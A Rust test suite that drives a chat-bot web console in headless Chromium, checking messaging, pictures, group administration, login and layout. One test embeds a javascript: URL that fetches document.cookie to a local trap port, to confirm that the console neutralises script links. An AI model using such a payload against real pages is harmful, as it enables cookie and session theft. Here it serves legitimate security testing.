//! The web console in a real headless Chromium: a person picks who they are, chats with the
//! bot, sends pictures, acts as a group admin and watches the events, while a bot works the
//! XLZ API of the same lizi. Screenshots of each step are kept in
//! `target/tmp/console/<test>/`.

#[path = "console/browser.rs"]
mod browser;
mod common;

use std::time::{Duration, Instant};

use base64::Engine;
use browser::Browser;
use common::Server;
use fantoccini::key::Key;
use serde_json::{json, Value};

/// A 1×1 PNG.
const PNG: &str = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

fn png_bytes() -> Vec<u8> {
    base64::engine::general_purpose::STANDARD
        .decode(PNG)
        .expect("png")
}

/// Waits until the bot's session has an event `matches` accepts; answers it.
async fn bot_receives(
    server: &Server,
    session: u64,
    what: &str,
    matches: impl Fn(&Value) -> bool,
) -> Value {
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut seen = Vec::new();
    loop {
        for event in server.events(session).await {
            if matches(&event) {
                return event;
            }
            seen.push(event);
        }
        assert!(
            Instant::now() < deadline,
            "the bot never received {what}; it saw {seen:#?}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Opens the console (with `query`) and chooses `who` (`user:20001`).
async fn open_as(server: &Server, browser: &Browser, query: &str, who: &str) {
    browser
        .client
        .goto(&server.url(&format!("/console{query}")))
        .await
        .expect("open the console");
    browser
        .until(
            10,
            "the identity list",
            "return document.querySelectorAll('#who option').length > 3",
        )
        .await;
    browser
        .run(
            "const who = document.querySelector('#who'); who.value = arguments[0]; \
             who.dispatchEvent(new Event('change')); return true;",
            vec![json!(who)],
        )
        .await;
}

/// Opens the console as Alice (20001) in the group 30001.
async fn open_group_as_alice(server: &Server, browser: &Browser) {
    open_as(server, browser, "", "user:20001").await;
    browser.shot("01-who").await;
    browser.click("#group-list li[data-group='30001']").await;
    browser
        .until(
            10,
            "the group to open",
            "return document.querySelector('#chat-title').textContent.includes('30001') \
             && !document.querySelector('#input').disabled",
        )
        .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_person_chats_with_the_bot_sends_a_picture_and_kicks_a_member() {
    let server = Server::start().await;
    let Some(browser) = Browser::start("chat", 1280, 800).await else {
        return;
    };
    let session = server.session().await;
    open_group_as_alice(&server, &browser).await;
    browser.shot("02-group-open").await;

    // Typing and Enter sends: the bot receives the GroupMsg from Alice.
    browser.click("#input").await;
    browser.type_into("#input", "hello bot").await;
    browser.type_into("#input", &Key::Enter.to_string()).await;
    let event = bot_receives(&server, session, "Alice's message", |e| {
        e["Type"] == "GroupMsg" && e["Msg"]["Text"] == "hello bot"
    })
    .await;
    assert_eq!(event["FromQQ"]["UIN"], 20001);
    assert_eq!(event["FromGroup"]["GIN"], 30001);
    assert_eq!(
        browser
            .run("return document.querySelector('#input').value", vec![])
            .await,
        "",
        "the box is emptied after sending"
    );

    // The bot answers through the XLZ API: the answer appears live, without a reload.
    browser
        .run("window.notReloaded = true; return true", vec![])
        .await;
    server
        .call(
            "/sendgroupmsg",
            "fromqq=10001&togroup=30001&text=pong%20[@20001]",
        )
        .await;
    let (_, took) = browser
        .until(
            5,
            "the bot's answer on the page",
            "return [...document.querySelectorAll('.msg[data-from=\"10001\"] .bubble')] \
             .some(b => b.textContent.includes('pong @Alice'))",
        )
        .await;
    eprintln!("the bot's answer appeared on the page {took:?} after it was sent");
    assert_eq!(
        browser
            .run("return window.notReloaded === true", vec![])
            .await,
        true,
        "the page was not reloaded"
    );
    browser.shot("03-bot-answered").await;

    // A picture chosen with the button's file input reaches the bot as a [pic,…] code whose
    // URL serves the bytes.
    let file = common::temp_dir("console-pic").join("picture.png");
    std::fs::write(&file, png_bytes()).expect("write the picture");
    browser
        .type_into("#pic-file", file.to_str().expect("path"))
        .await;
    let event = bot_receives(&server, session, "the uploaded picture", |e| {
        e["Type"] == "GroupMsg"
            && e["Msg"]["Text"]
                .as_str()
                .is_some_and(|t| t.starts_with("[pic,"))
    })
    .await;
    let text = event["Msg"]["Text"].as_str().expect("text");
    let url = text
        .split(",url=")
        .nth(1)
        .and_then(|rest| rest.split([',', ']']).next())
        .expect("the picture's url");
    let bytes = server
        .client
        .get(url)
        .send()
        .await
        .expect("fetch the picture")
        .bytes()
        .await
        .expect("bytes");
    assert_eq!(bytes.as_ref(), png_bytes().as_slice());
    browser
        .until(
            5,
            "the picture inline",
            "return document.querySelectorAll('#messages img.pic').length === 1 \
             && document.querySelector('#messages img.pic').naturalWidth === 1",
        )
        .await;

    // A pasted picture goes the same way.
    browser
        .run(
            "const bytes = Uint8Array.from(atob(arguments[0]), c => c.charCodeAt(0)); \
             const data = new DataTransfer(); \
             data.items.add(new File([bytes], 'pasted.png', {type: 'image/png'})); \
             document.querySelector('#input').dispatchEvent( \
               new ClipboardEvent('paste', {clipboardData: data, bubbles: true, cancelable: true})); \
             return true;",
            vec![json!(PNG)],
        )
        .await;
    bot_receives(&server, session, "the pasted picture", |e| {
        e["Type"] == "GroupMsg"
            && e["Msg"]["Text"]
                .as_str()
                .is_some_and(|t| t.starts_with("[pic,"))
    })
    .await;
    browser
        .until(
            5,
            "both pictures inline",
            "return document.querySelectorAll('#messages img.pic').length === 2",
        )
        .await;
    browser.shot("04-pictures").await;

    // Alice, the owner, kicks Carol from the member panel: the world and the bot agree.
    browser
        .click("#tab-members .member[data-uin='20003'] button.kick")
        .await;
    bot_receives(&server, session, "Carol's kick", |e| {
        e["Type"] == "EventMsg" && e["FromGroup"]["GIN"] == 30001 && e.to_string().contains("20003")
    })
    .await;
    let world = server.world().await;
    let group = world["groups"]
        .as_array()
        .expect("groups")
        .iter()
        .find(|g| g["gin"] == 30001)
        .expect("group 30001");
    assert!(
        !group["members"]
            .as_array()
            .expect("members")
            .iter()
            .any(|m| m["uin"] == 20003),
        "Carol is still in the group: {group}"
    );
    browser
        .until(
            5,
            "Carol gone from the member panel",
            "return document.querySelector('#tab-members .member[data-uin=\"10001\"]') \
             && !document.querySelector('#tab-members .member[data-uin=\"20003\"]')",
        )
        .await;
    browser.shot("05-kicked").await;

    // The event panel shows the raw events the bot received.
    browser.click("#side-tabs button[data-tab='events']").await;
    browser
        .until(
            5,
            "the events in the panel",
            "return [...document.querySelectorAll('#event-list li')] \
             .some(li => li.textContent.includes('\"Text\":\"hello bot\"'))",
        )
        .await;
    browser.shot("06-events").await;

    assert_eq!(browser.errors().await, json!([]), "script errors");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refusal_shows_its_reason_and_changes_nothing() {
    let server = Server::start().await;
    let Some(browser) = Browser::start("refusal", 1280, 800).await else {
        return;
    };
    // Bob (20002), a plain member, tries to kick Carol.
    open_as(&server, &browser, "?lang=en", "user:20002").await;
    browser.click("#group-list li[data-group='30001']").await;
    browser
        .click("#tab-members .member[data-uin='20003'] button.kick")
        .await;
    let (toast, _) = browser
        .until(
            5,
            "the refusal",
            "const t = document.querySelector('#toast'); \
             return !t.hidden && t.classList.contains('error') && t.textContent",
        )
        .await;
    assert!(
        toast.as_str().is_some_and(|t| t.starts_with("Refused: ")),
        "{toast}"
    );
    let (status, group) = server.sim("group", json!({"gin": 30001})).await;
    assert_eq!(status, 200);
    assert!(group["members"]
        .as_array()
        .expect("members")
        .iter()
        .any(|m| m["uin"] == 20003));
    assert_eq!(
        browser
            .run(
                "return document.querySelector('#contacts h3').textContent",
                vec![]
            )
            .await,
        "Groups",
        "?lang=en shows English"
    );
    browser.shot("refused").await;
    assert_eq!(browser.errors().await, json!([]), "script errors");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn on_a_phone_width_screen_the_panels_take_turns() {
    let server = Server::start().await;
    let Some(browser) = Browser::start("phone", 390, 800).await else {
        return;
    };
    open_group_as_alice(&server, &browser).await;
    let shown = |id: &str| {
        format!("return getComputedStyle(document.querySelector('#{id}')).display !== 'none'")
    };
    assert_eq!(browser.run(&shown("chat"), vec![]).await, true);
    assert_eq!(browser.run(&shown("contacts"), vec![]).await, false);
    assert_eq!(
        browser
            .run(
                "return document.documentElement.scrollWidth <= window.innerWidth",
                vec![]
            )
            .await,
        true,
        "nothing sticks out sideways"
    );
    browser.type_into("#input", "from a phone").await;
    browser.type_into("#input", &Key::Enter.to_string()).await;
    browser
        .until(
            5,
            "the message",
            "return [...document.querySelectorAll('.msg .bubble')] \
             .some(b => b.textContent === 'from a phone')",
        )
        .await;
    browser.shot("phone-chat").await;
    browser.click("#views button[data-view='contacts']").await;
    assert_eq!(browser.run(&shown("contacts"), vec![]).await, true);
    assert_eq!(browser.errors().await, json!([]), "script errors");
}

/// Opens the console of a lizi with credentials, checks that it shows nothing before the
/// login dialog is answered, types `secret` into the dialog's `field` and logs in.
async fn log_in(server: &Server, browser: &Browser, field: &str, secret: &str) {
    browser
        .client
        .goto(&server.url("/console"))
        .await
        .expect("open");
    browser
        .until(
            10,
            "the login dialog",
            "return document.querySelector('#login').open",
        )
        .await;
    assert_eq!(
        browser
            .run(
                "return document.querySelectorAll('#who option').length",
                vec![]
            )
            .await,
        0,
        "nothing is shown before logging in"
    );
    browser.type_into(field, secret).await;
    browser.click("#login-form button[type='submit']").await;
    browser
        .until(
            10,
            "the identity list after logging in",
            "return document.querySelectorAll('#who option').length > 3",
        )
        .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn with_a_password_the_console_asks_for_it_once() {
    let server = Server::start_with(|settings| {
        settings.api.password = Some("s3cret".into());
    })
    .await;
    let Some(browser) = Browser::start("password", 1280, 800).await else {
        return;
    };
    log_in(&server, &browser, "#login-password", "s3cret").await;
    // A wrong password is refused with its reason.
    let response = server
        .client
        .post(server.url("/console/login"))
        .body("password=wrong")
        .send()
        .await
        .expect("login");
    assert_eq!(response.status().as_u16(), 403);
    assert_eq!(browser.errors().await, json!([]), "script errors");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mentions_replies_recalls_whole_mute_and_shaping_the_world() {
    let server = Server::start().await;
    let Some(browser) = Browser::start("compose", 1280, 800).await else {
        return;
    };
    let session = server.session().await;
    open_group_as_alice(&server, &browser).await;

    // `@` opens the member picker; Enter picks the first match, which becomes `[@qq]`.
    browser.click("#input").await;
    browser.type_into("#input", "hi @lizi-b").await;
    browser
        .until(
            5,
            "the member picker",
            "const p = document.querySelector('#picker'); \
             return !p.hidden && p.querySelector('button.active').dataset.uin === '10001'",
        )
        .await;
    browser.shot("01-picker").await;
    browser.type_into("#input", &Key::Enter.to_string()).await;
    browser.type_into("#input", "how are you?").await;
    browser.type_into("#input", &Key::Enter.to_string()).await;
    let event = bot_receives(&server, session, "the mention", |e| e["Type"] == "GroupMsg").await;
    assert_eq!(event["Msg"]["Text"], "hi [@10001] how are you?");

    // Shift+Enter adds a line instead of sending.
    browser.type_into("#input", "line one").await;
    browser
        .type_into("#input", &format!("{}{}", Key::Shift, Key::Enter))
        .await;
    browser.type_into("#input", "line two").await;
    browser.type_into("#input", &Key::Enter.to_string()).await;
    let event = bot_receives(&server, session, "two lines", |e| e["Type"] == "GroupMsg").await;
    assert_eq!(event["Msg"]["Text"], "line one\nline two");

    // Reply to the bot's message from its menu: the bot gets a Reply code naming it.
    let (sent, _) = server
        .call_retcode(
            "/sendgroupmsg",
            "fromqq=10001&togroup=30001&text=question%3F",
        )
        .await;
    let _ = sent;
    browser
        .until(
            5,
            "the bot's message",
            "return document.querySelector('.msg[data-from=\"10001\"]')",
        )
        .await;
    browser
        .run(
            "document.querySelector('.msg[data-from=\"10001\"] button.reply').click(); return true",
            vec![],
        )
        .await;
    browser.type_into("#input", "an answer").await;
    browser.type_into("#input", &Key::Enter.to_string()).await;
    let event = bot_receives(&server, session, "the reply", |e| {
        e["Type"] == "GroupMsg"
            && e["FromQQ"]["UIN"] == 20001
            && e["Msg"]["Text"]
                .as_str()
                .is_some_and(|t| t.ends_with("an answer"))
    })
    .await;
    let text = event["Msg"]["Text"].as_str().expect("text");
    assert!(
        text.starts_with("[Reply,") && text.contains("SendQQID=10001"),
        "{text}"
    );
    browser
        .until(
            5,
            "the quoted block",
            "return document.querySelector('.msg.mine blockquote')",
        )
        .await;
    browser.shot("02-reply").await;

    // Recall her own message: marked on the page, recalled in the history.
    browser
        .run(
            "const mine = [...document.querySelectorAll('.msg.mine')]; \
             mine[mine.length - 1].querySelector('button.recall').click(); return true",
            vec![],
        )
        .await;
    browser
        .until(
            5,
            "the recalled mark",
            "return document.querySelectorAll('.msg.recalled').length === 1",
        )
        .await;
    let (_, history) = server.sim("history", json!({"group": 30001})).await;
    let recalled: Vec<&Value> = history["messages"]
        .as_array()
        .expect("messages")
        .iter()
        .filter(|m| m["recalled"] == true)
        .collect();
    assert_eq!(recalled.len(), 1);
    assert!(recalled[0]["text"]
        .as_str()
        .expect("text")
        .ends_with("an answer"));
    browser.shot("03-recalled").await;

    // A group file shows as a download link to its bytes.
    let (status, _) = server
        .sim(
            "upload_file",
            json!({"from": 20002, "group": 30001, "name": "notes.txt", "base64": "aGVsbG8="}),
        )
        .await;
    assert_eq!(status, 200);
    let (href, _) = browser
        .until(
            5,
            "the file link",
            "const a = document.querySelector('#messages a.file'); return a && a.href",
        )
        .await;
    let bytes = server
        .client
        .get(href.as_str().expect("href"))
        .send()
        .await
        .expect("fetch the file")
        .bytes()
        .await
        .expect("bytes");
    assert_eq!(bytes.as_ref(), b"hello");

    // A temporary session with the bot, opened from the member panel.
    browser
        .click("#tab-members .member[data-uin='10001'] button.temp")
        .await;
    browser
        .until(
            5,
            "the temporary chat",
            "return document.querySelector('#temp-list li[data-temp=\"10001\"]') \
             && document.querySelector('#chat-title').textContent.includes('30001')",
        )
        .await;
    browser.type_into("#input", "psst").await;
    browser.type_into("#input", &Key::Enter.to_string()).await;
    let event = bot_receives(&server, session, "the temporary message", |e| {
        e["Type"] == "PrivateMsg" && e["Msg"]["Text"] == "psst"
    })
    .await;
    assert_eq!(event["FromGroup"]["GIN"], 30001, "{event}");
    browser.click("#group-list li[data-group='30001']").await;
    browser
        .until(
            5,
            "the group again",
            "return document.querySelector('#tab-members button.whole-mute')",
        )
        .await;

    // Whole-group mute from the member panel.
    browser.click("#tab-members button.whole-mute").await;
    browser
        .until(
            5,
            "the whole-group mute",
            "return document.querySelector('#tab-members button.whole-mute').textContent === '解除全员禁言'",
        )
        .await;
    let (_, group) = server.sim("group", json!({"gin": 30001})).await;
    assert_eq!(group["settings"]["whole_mute"], true);

    // The world tab adds a user, who can then be chosen.
    browser.click("#side-tabs button[data-tab='world']").await;
    browser
        .run(
            "const f = document.querySelectorAll('#tab-world form')[0]; \
             f.querySelector('[name=uin]').value = '20004'; \
             f.querySelector('[name=nickname]').value = 'Dave'; \
             f.querySelector('button[type=submit]').click(); return true",
            vec![],
        )
        .await;
    browser
        .until(
            5,
            "Dave in the identity list",
            "return [...document.querySelectorAll('#who option')].some(o => o.value === 'user:20004')",
        )
        .await;
    browser.shot("04-world").await;

    // A friend request to the bot from the world tab: the bot gets event 105.
    browser
        .run(
            "const f = document.querySelectorAll('#tab-world form')[3]; \
             f.querySelector('[name=from]').value = '20003'; \
             f.querySelector('[name=to]').value = '10001'; \
             f.querySelector('[name=text]').value = 'be my friend'; \
             f.querySelector('button[type=submit]').click(); return true",
            vec![],
        )
        .await;
    bot_receives(&server, session, "the friend request", |e| {
        e["Type"] == "EventMsg" && e["Msg"]["Type"] == 105 && e["FromQQ"]["UIN"] == 20003
    })
    .await;
    let world = server.world().await;
    assert!(world["users"]
        .as_array()
        .expect("users")
        .iter()
        .any(|u| u["uin"] == 20004));
    assert_eq!(browser.errors().await, json!([]), "script errors");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_member_panel_paging_drops_and_the_state_and_world_tabs() {
    let server = Server::start().await;
    let Some(browser) = Browser::start("panels", 1280, 800).await else {
        return;
    };
    let session = server.session().await;
    for n in 0..60 {
        let (status, _) = server
            .sim(
                "message",
                json!({"from": 20002, "group": 30001, "text": format!("message {n}")}),
            )
            .await;
        assert_eq!(status, 200);
    }
    open_group_as_alice(&server, &browser).await;

    // The newest 50 first; scrolling to the top loads the older ones.
    browser
        .until(
            5,
            "the newest page",
            "const m = document.querySelectorAll('.msg'); \
             return m.length === 50 && m[49].textContent.includes('message 59')",
        )
        .await;
    browser
        .run(
            "document.querySelector('#messages').scrollTop = 0; return true",
            vec![],
        )
        .await;
    browser
        .until(
            5,
            "the older messages",
            "const m = document.querySelectorAll('.msg'); \
             return m.length === 60 && m[0].textContent.includes('message 0')",
        )
        .await;

    // A picture dropped on the composer is sent.
    browser
        .run(
            "const bytes = Uint8Array.from(atob(arguments[0]), c => c.charCodeAt(0)); \
             const data = new DataTransfer(); \
             data.items.add(new File([bytes], 'dropped.png', {type: 'image/png'})); \
             document.querySelector('#composer').dispatchEvent( \
               new DragEvent('drop', {dataTransfer: data, bubbles: true, cancelable: true})); \
             return true;",
            vec![json!(PNG)],
        )
        .await;
    bot_receives(&server, session, "the dropped picture", |e| {
        e["Type"] == "GroupMsg"
            && e["Msg"]["Text"]
                .as_str()
                .is_some_and(|t| t.starts_with("[pic,"))
    })
    .await;

    // Mute Bob for 2 minutes, make him admin, set his card, rename the group.
    let bob = "#tab-members .member[data-uin='20002']";
    browser
        .run(
            "const i = document.querySelector(arguments[0] + ' input.mute-minutes'); \
             i.value = '2'; i.dispatchEvent(new Event('input')); return true",
            vec![json!(bob)],
        )
        .await;
    browser.click(&format!("{bob} button.mute")).await;
    browser
        .until(
            5,
            "Bob muted",
            "return document.querySelector(\"#tab-members .member[data-uin='20002'] .muted\")",
        )
        .await;
    browser.click(&format!("{bob} button.admin")).await;
    browser
        .until(
            5,
            "Bob an admin",
            "return document.querySelector(\"#tab-members .member[data-uin='20002'] .role.admin\")",
        )
        .await;
    browser
        .run(
            "const i = document.querySelector(arguments[0] + ' input.card-input'); \
             i.value = 'Bobby'; i.dispatchEvent(new Event('input')); return true",
            vec![json!(bob)],
        )
        .await;
    browser.click(&format!("{bob} button.set-card")).await;
    browser
        .run(
            "const i = document.querySelector('#tab-members input.group-name'); \
             i.value = 'renamed'; i.dispatchEvent(new Event('input')); return true",
            vec![],
        )
        .await;
    browser.click("#tab-members button.rename").await;
    browser
        .until(
            5,
            "the new name",
            "return document.querySelector('#chat-title').textContent.startsWith('renamed')",
        )
        .await;
    let (_, group) = server.sim("group", json!({"gin": 30001})).await;
    assert_eq!(group["name"], "renamed");
    let bob_state = group["members"]
        .as_array()
        .expect("members")
        .iter()
        .find(|m| m["uin"] == 20002)
        .expect("Bob")
        .clone();
    assert_eq!(bob_state["role"], "admin", "{bob_state}");
    assert_eq!(bob_state["card"], "Bobby", "{bob_state}");
    let left = bob_state["mute_left"].as_i64().expect("mute_left");
    assert!((100..=120).contains(&left), "{bob_state}");
    browser.shot("members").await;

    // The state tab lists the bot's session with what waits for it.
    browser.click("#side-tabs button[data-tab='state']").await;
    browser
        .until(
            5,
            "the session row",
            &format!("return document.querySelector('#tab-state tr[data-session=\"{session}\"]')"),
        )
        .await;

    // The world tab logs the helper account out.
    browser.click("#side-tabs button[data-tab='world']").await;
    browser
        .click("#tab-world [data-account='10002'] button.logout")
        .await;
    browser
        .until(
            5,
            "the helper offline",
            "return document.querySelector(\"#tab-world [data-account='10002'] button.login\")",
        )
        .await;
    let world = server.world().await;
    let helper = world["accounts"]
        .as_array()
        .expect("accounts")
        .iter()
        .find(|a| a["uin"] == 10002)
        .expect("helper")
        .clone();
    assert_eq!(helper["online"], false);
    browser.shot("world").await;
    assert_eq!(browser.errors().await, json!([]), "script errors");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_person_sends_a_video_and_asks_in_ways_qq_screens_out() {
    let server = Server::start().await;
    let Some(browser) = Browser::start("screened", 1280, 800).await else {
        return;
    };
    let session = server.session().await;
    open_group_as_alice(&server, &browser).await;

    // A video dropped on the composer is sent, and shows as a video.
    let mp4 = base64::engine::general_purpose::STANDARD.encode(b"\x00\x00\x00\x18ftypmp42rest");
    browser
        .run(
            "const bytes = Uint8Array.from(atob(arguments[0]), c => c.charCodeAt(0)); \
             const data = new DataTransfer(); \
             data.items.add(new File([bytes], 'clip.mp4', {type: 'video/mp4'})); \
             document.querySelector('#composer').dispatchEvent( \
               new DragEvent('drop', {dataTransfer: data, bubbles: true, cancelable: true})); \
             return true;",
            vec![json!(mp4)],
        )
        .await;
    bot_receives(&server, session, "the video", |e| {
        e["Type"] == "GroupMsg"
            && e["Msg"]["Text"]
                .as_str()
                .is_some_and(|t| t.starts_with("[litleVideo,hash="))
    })
    .await;
    browser
        .until(
            5,
            "the video in the chat",
            "return document.querySelector('#messages video')",
        )
        .await;
    browser.shot("video").await;

    // The world tab asks doubtfully and joins filtered: QQ screens both out.
    browser.click("#side-tabs button[data-tab='world']").await;
    let ask = "const f = [...document.querySelectorAll('#tab-world form.world-form')] \
               .find(f => f.querySelector(`input[name=${arguments[0]}]`)); \
               for (const [name, value] of Object.entries(arguments[1])) \
                 f.querySelector(`input[name=${name}]`).value = value; \
               f.querySelector(`input[name=${arguments[0]}]`).checked = true; \
               f.requestSubmit(); return true;";
    browser
        .run(
            ask,
            vec![
                json!("doubt"),
                json!({"from": "20003", "to": "10001", "text": "hi"}),
            ],
        )
        .await;
    browser
        .run(
            ask,
            vec![
                json!("filtered"),
                json!({"from": "20003", "group": "30002", "text": "in"}),
            ],
        )
        .await;
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let (_, view) = server.sim("requests", json!({})).await;
        let requests = view["requests"].as_array().expect("requests").clone();
        if requests.len() == 2 {
            assert!(requests.iter().all(|r| r["screened"] == true), "{view}");
            break;
        }
        assert!(Instant::now() < deadline, "the requests never came: {view}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let events = server.events(session).await;
    assert!(
        events.iter().all(|e| e["Type"] != "EventMsg"),
        "screened requests raise no event: {events:?}"
    );
    assert_eq!(browser.errors().await, json!([]), "script errors");
}

/// A port that counts the connections made to it: anything that reaches it was sent by a
/// script that ran in the page.
async fn trap() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind the trap");
    let port = listener.local_addr().expect("address").port();
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = hits.clone();
    tokio::spawn(async move {
        while let Ok((_stream, _)) = listener.accept().await {
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        }
    });
    (port, hits)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_link_that_would_run_a_script_is_shown_as_text_and_runs_nothing() {
    let server = Server::start().await;
    let Some(browser) = Browser::start("script-link", 1280, 800).await else {
        return;
    };
    let (port, hits) = trap().await;
    open_group_as_alice(&server, &browser).await;
    let script = format!("javascript:fetch('http://127.0.0.1:{port}/'+document.cookie)");
    let text = format!(
        "[File,name=report.pdf,url={script}] [pic,hash=0123456789ABCDEF0123456789ABCDEF,url={script}] \
         [Audio,hash=0123456789ABCDEF0123456789ABCDEF,url={script}] \
         [File,name=notes.pdf,url=https://files.example.invalid/notes.pdf]"
    );
    let sent = server
        .call(
            "/sendgroupmsg",
            &format!("fromqq=10001&togroup=30001&text={}", common::enc(&text)),
        )
        .await;
    assert!(sent["ret"].as_str().is_some(), "{sent}");
    browser
        .until(
            10,
            "the bot's message",
            "return [...document.querySelectorAll('.msg .bubble')] \
             .some(b => b.textContent.includes('report.pdf'))",
        )
        .await;
    browser.shot("script-link").await;
    // No link or source in the page points at a script; the web link stays a link.
    let scripted = browser
        .run(
            "return [...document.querySelectorAll('[href],[src]')] \
             .map(e => e.getAttribute('href') || e.getAttribute('src')) \
             .filter(url => !/^(https?:|\\/)/i.test(url.trim()))",
            vec![],
        )
        .await;
    assert_eq!(
        scripted,
        json!([]),
        "links and sources that are not web URLs"
    );
    let web = browser
        .run(
            "const a = [...document.querySelectorAll('.msg a.file')] \
             .find(a => a.textContent.includes('notes.pdf')); return a && a.href",
            vec![],
        )
        .await;
    assert_eq!(web, "https://files.example.invalid/notes.pdf");
    // Clicking what shows the file runs nothing: no request, no navigation.
    let before = browser.run("return location.href", vec![]).await;
    browser
        .run(
            "const f = [...document.querySelectorAll('.msg .file')] \
             .find(f => f.textContent.includes('report.pdf')); \
             f.id = 'bad-file'; return true",
            vec![],
        )
        .await;
    browser.click("#bad-file").await;
    tokio::time::sleep(Duration::from_millis(1000)).await;
    assert_eq!(browser.run("return location.href", vec![]).await, before);
    assert_eq!(
        hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "a script in the page reached the trap"
    );
    assert_eq!(browser.errors().await, json!([]), "script errors");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn with_a_token_the_console_logs_in_and_no_script_can_read_it() {
    const TOKEN: &str = "t0ken-for-the-console";
    let server = Server::start_with(|settings| settings.api.token = Some(TOKEN.into())).await;
    let Some(browser) = Browser::start("token", 1280, 800).await else {
        return;
    };
    log_in(&server, &browser, "#login-token", TOKEN).await;
    // The token is nowhere a script can read it: not in storage, not in a cookie.
    let readable = browser
        .run(
            "const all = [document.cookie, document.documentElement.outerHTML]; \
             for (const store of [sessionStorage, localStorage]) \
               for (let i = 0; i < store.length; i++) all.push(store.getItem(store.key(i))); \
             return all.filter(text => text.includes(arguments[0])).length",
            vec![json!(TOKEN)],
        )
        .await;
    assert_eq!(readable, 0, "the token is readable by the page's scripts");
    // The event stream is open with the cookie: a bot's message shows live.
    browser
        .run(
            "document.querySelector('#side-tabs [data-tab=events]').click(); return true",
            vec![],
        )
        .await;
    let sent = server
        .client
        .post(server.url("/sendgroupmsg"))
        .bearer_auth(TOKEN)
        .body("fromqq=10001&togroup=30001&text=live")
        .send()
        .await
        .expect("send");
    assert_eq!(sent.status().as_u16(), 200);
    browser
        .until(
            10,
            "the event in the events tab",
            "return document.querySelector('#event-list').textContent.includes('live')",
        )
        .await;
    assert_eq!(browser.errors().await, json!([]), "script errors");
}
